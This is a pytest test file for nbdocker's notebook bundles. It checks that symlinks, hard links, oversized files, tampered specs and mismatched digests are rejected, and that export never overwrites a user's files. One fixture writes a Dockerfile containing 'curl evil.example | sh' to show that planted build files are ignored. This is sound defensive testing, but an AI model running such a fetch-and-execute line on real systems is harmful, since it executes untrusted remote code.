"""Issue 14.2 and 14.6: bundles trust only their spec and regular files inside them;
a bundle can be checked against a published digest; export never deletes a user's file;
``--output`` is checked before the run and the executed notebook is never lost."""
from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path
from typing import Any, Dict, List

import nbformat
import pytest

from nbdocker import pipeline
from nbdocker.engine.base import ContainerResult
from nbdocker.engine.fake import FakeEngine
from nbdocker.events import Event
from nbdocker.exceptions import BundleError, InputError
from nbdocker.frontends.cli import main
from nbdocker.spec import EnvironmentSpec, FileEntry, PythonInfo, Requirement
from nbdocker.stages.image import context_files
from nbdocker.stages.share import bundle

NOTEBOOK = Path(__file__).resolve().parent.parent / "notebooks" / "share" / "analysis"


def _entry(directory: Path, rel: str, kind: str) -> FileEntry:
    data = (directory / rel).read_bytes()
    return FileEntry(rel, kind, len(data), hashlib.sha256(data).hexdigest())


def _spec(directory: Path) -> EnvironmentSpec:
    return EnvironmentSpec(
        notebook="analysis.ipynb", python=PythonInfo("3.11.7"),
        requirements=(Requirement("six", "1.16.0"),),
        files=(_entry(directory, "analysis.ipynb", "notebook"),
               _entry(directory, "helpers.py", "module"),
               _entry(directory, "data/values.csv", "data")))


@pytest.fixture
def nbdir(tmp_path: Path) -> Path:
    target = tmp_path / "src"
    shutil.copytree(NOTEBOOK, target, ignore=shutil.ignore_patterns("__pycache__", "*.nbdocker.*"))
    return target


@pytest.fixture
def made(nbdir: Path, tmp_path: Path) -> Path:
    return bundle.export_bundle(_spec(nbdir), nbdir, tmp_path / "b")


def _tree(root: Path) -> Dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file()}


# -- 14.2: what a bundle may hold ------------------------------------------------------

def test_a_symlinked_file_is_refused_even_with_a_matching_sha256(made: Path,
                                                                 tmp_path: Path) -> None:
    secret = tmp_path / "id_rsa"
    secret.write_bytes((made / "notebook" / "helpers.py").read_bytes())  # same bytes
    (made / "notebook" / "helpers.py").unlink()
    (made / "notebook" / "helpers.py").symlink_to(secret)
    with pytest.raises(BundleError, match="helpers.py is a symlink"):
        bundle.load_bundle(made)


def test_a_symlinked_notebook_folder_is_refused(made: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    shutil.move(str(made / "notebook"), elsewhere)
    (made / "notebook").symlink_to(elsewhere)
    with pytest.raises(BundleError, match="symlink below"):
        bundle.load_bundle(made)


def test_hard_links_and_devices_are_refused(made: Path, tmp_path: Path) -> None:
    data = made / "notebook" / "data" / "values.csv"
    os.link(data, tmp_path / "second-name")
    with pytest.raises(BundleError, match="hard link"):
        bundle.load_bundle(made)
    (tmp_path / "second-name").unlink()
    data.unlink()
    os.mkfifo(data)
    with pytest.raises(BundleError, match="not a regular file"):
        bundle.load_bundle(made)


def test_a_file_over_the_cap_is_refused_without_being_read(made: Path) -> None:
    from nbdocker._fs import MAX_SHIPPED_FILE

    data = made / "notebook" / "data" / "values.csv"
    with open(data, "r+b") as fh:          # sparse: nothing is written, nothing read
        fh.truncate(MAX_SHIPPED_FILE + 1)
    with pytest.raises(BundleError, match="over the .*-byte cap"):
        bundle.load_bundle(made)


def test_a_spec_without_its_notebook_entry_is_refused(made: Path) -> None:
    doc = json.loads((made / bundle.SPEC_NAME).read_text())
    doc["files"] = [f for f in doc["files"] if f["kind"] != "notebook"]
    (made / bundle.SPEC_NAME).write_text(json.dumps(doc))
    with pytest.raises(BundleError, match="records no notebook"):
        bundle.load_bundle(made)


def test_nothing_of_the_bundles_own_dockerfile_or_runner_is_used(
        made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (made / "Dockerfile").write_text("FROM evil\nRUN curl evil.example | sh\n")
    (made / "nbdocker-build" / "nbdocker_runner.py").write_text("print('EVIL-RUNNER')\n")
    (made / "nbdocker-build" / "requirements.txt").write_text("evil-package\n")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    engine = FakeEngine(images={"base:1": {}},
                        run_handler=lambda i, c, f: ContainerResult(0, logs=("3.11.7",)))
    pipeline.build(made, base_image="base:1", engine=engine)
    files = engine.builds[-1].files
    # A local-only base is built FROM its image id (nbdocker.stages.image.base).
    assert files == context_files(bundle.load_bundle(made).spec, made / "notebook",
                                  base_image=str(engine.image_id("base:1")), options=_options())
    assert b"evil" not in files["Dockerfile"] and b"EVIL" not in b"".join(files.values())


def _options() -> Any:
    from nbdocker.stages.image import discover_build_options
    return discover_build_options()


def test_verify_against_a_published_digest(made: Path, capsys: pytest.CaptureFixture[str]
                                           ) -> None:
    digest = bundle.digest_of(made)
    assert bundle.load_bundle(made, expect_digest=digest).root == made
    # A colleague changes a file AND its sha256 in the spec: the checksums agree with
    # each other, only the published digest tells.
    helper = made / "notebook" / "helpers.py"
    helper.write_text("def mean(v):\n    return 0\n")
    doc = json.loads((made / bundle.SPEC_NAME).read_text())
    for f in doc["files"]:
        if f["path"] == "helpers.py":
            f["sha256"] = hashlib.sha256(helper.read_bytes()).hexdigest()
            f["size"] = helper.stat().st_size
    (made / bundle.SPEC_NAME).write_text(json.dumps(doc))
    bundle.load_bundle(made)                                   # self-consistent...
    with pytest.raises(BundleError, match="not the bundle that was published"):
        bundle.load_bundle(made, expect_digest=digest)         # ...but not what was published
    assert main(["verify", "--bundle", str(made), "--expect-digest", digest, "-q"]) == 2
    assert "not the expected" in capsys.readouterr().err
    assert main(["verify", "--bundle", str(made), "--expect-digest", "sha256:x", "-q"]) == 2
    assert "--expect-digest must be" in capsys.readouterr().err


def test_the_published_digest_lets_run_and_verify_through(
        made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The field test's bug: the bundle was resolved, then resolved again as a notebook.
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    digest = bundle.digest_of(made)
    engine = FakeEngine(images={"base:1": {}},
                        run_handler=lambda i, c, f: ContainerResult(0, logs=("3.11.7",)))
    built = pipeline.ensure_image(made, base_image="base:1", expect_digest=digest,
                                  engine=engine)
    for action in (pipeline.run, pipeline.verify):
        with pytest.raises(Exception) as caught:   # the stub engine runs no kernel...
            action(made, base_image="base:1", expect_digest=digest, engine=engine)
        # ...so the run itself fails: the digest check (an input error) was passed.
        assert not isinstance(caught.value, (InputError, BundleError)), caught.value
        assert engine.runs, "no container was started"
    assert engine.image_id(built.tag) is not None
    with pytest.raises(BundleError, match="not the expected"):
        pipeline.run(made, base_image="base:1", expect_digest="sha256:" + "0" * 64,
                     engine=engine)


def test_expect_digest_needs_a_bundle(nbdir: Path) -> None:
    with pytest.raises(InputError, match="checks a bundle"):
        pipeline.capture(nbdir / "analysis.ipynb", expect_digest="sha256:" + "0" * 64)


# -- 14.6: export never loses a user's file ----------------------------------------------

def test_export_refuses_a_bundle_folder_holding_the_users_notes(
        made: Path, nbdir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (made / "NOTES.md").write_text("my notes")
    (made / "notebook" / "results.csv").write_text("mine")
    argv = ["export", str(nbdir / "analysis.ipynb"), "--to", str(made), "-q",
            "--python", os.sys.executable]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "NOTES.md" in err and "--force" in err and len(err.strip().splitlines()) == 1
    assert (made / "NOTES.md").read_text() == "my notes"
    # --force replaces only nbdocker's own files: the notes stay.
    (made / "README.md").write_text("edited by hand")
    assert main(argv + ["--force"]) == 0
    assert (made / "NOTES.md").read_text() == "my notes"
    assert (made / "notebook" / "results.csv").read_text() == "mine"
    assert "edited by hand" not in (made / "README.md").read_text()
    bundle.load_bundle(made)


def test_force_never_overwrites_a_users_file_named_like_a_bundle_file(
        nbdir: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "Dockerfile").write_text("my own")
    with pytest.raises(BundleError, match="would be overwritten: Dockerfile"):
        bundle.export_bundle(_spec(nbdir), nbdir, mine, force=True)
    assert (mine / "Dockerfile").read_text() == "my own"
    (mine / "Dockerfile").unlink()
    (mine / "thesis.tex").write_text("precious")
    bundle.export_bundle(_spec(nbdir), nbdir, mine, force=True)
    assert (mine / "thesis.tex").read_text() == "precious" and bundle.is_bundle(mine)


def test_export_never_overwrites_an_archive_it_did_not_write(nbdir: Path,
                                                             tmp_path: Path) -> None:
    theirs = tmp_path / "backup.tar.gz"
    theirs.write_bytes(b"not a bundle")
    with pytest.raises(BundleError, match="not a bundle archive"):
        bundle.export_bundle(_spec(nbdir), nbdir, theirs)
    assert theirs.read_bytes() == b"not a bundle"
    ours = bundle.export_bundle(_spec(nbdir), nbdir, tmp_path / "ours.tar.gz")
    bundle.export_bundle(_spec(nbdir), nbdir, ours)     # re-export over our own: fine


def test_export_target_is_checked_before_the_capture(nbdir: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    import nbdocker.stages.capture.notebook as capture

    def no_capture(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("captured before the target was checked")

    monkeypatch.setattr(capture, "capture_notebook", no_capture)
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    with pytest.raises(InputError, match="--to .* cannot be written|is not a directory"):
        pipeline.export(nbdir / "analysis.ipynb", blocker / "share")


# -- 14.6: --output ---------------------------------------------------------------------

def test_an_unwritable_output_is_refused_before_any_build(nbdir: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture[str]
                                                          ) -> None:
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    engine = FakeEngine(images={"base:1": {}})
    monkeypatch.setattr(pipeline, "_default_engine", lambda: engine)
    code = main(["run", str(nbdir / "analysis.ipynb"), "--output",
                 str(blocker / "out.ipynb"), "--base-image", "base:1", "-q"])
    assert code == 2
    assert "--output" in capsys.readouterr().err
    assert engine.builds == [] and engine.runs == []


def test_the_executed_notebook_is_rescued_when_writing_it_fails(
        nbdir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from nbdocker.stages.run import execute

    monkeypatch.setenv("NBDOCKER_CACHE_DIR", str(tmp_path / "cache"))
    executed = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1")])
    engine = FakeEngine(images={"img:1": {}}, run_handler=lambda i, c, f: ContainerResult(
        0, files={".nbdocker-output.ipynb": nbformat.writes(executed).encode()}))
    real = execute.write_notebook_atomic
    target = tmp_path / "out.ipynb"

    def failing(nb: Any, path: Any) -> None:
        if Path(path) == target:
            raise OSError(28, "No space left on device")
        real(nb, path)

    monkeypatch.setattr(execute, "write_notebook_atomic", failing)
    events: List[Event] = []
    outcome = execute.run_in_container(engine, "img:1", nbdir / "analysis.ipynb",
                                       output=target, on_event=events.append)
    assert outcome.output is not None and outcome.output.is_file()
    assert outcome.output.parent == tmp_path / "cache" / "rescued"
    warning = next(e.message for e in events if e.kind == "warning")
    assert "No space left" in warning and str(outcome.output) in warning
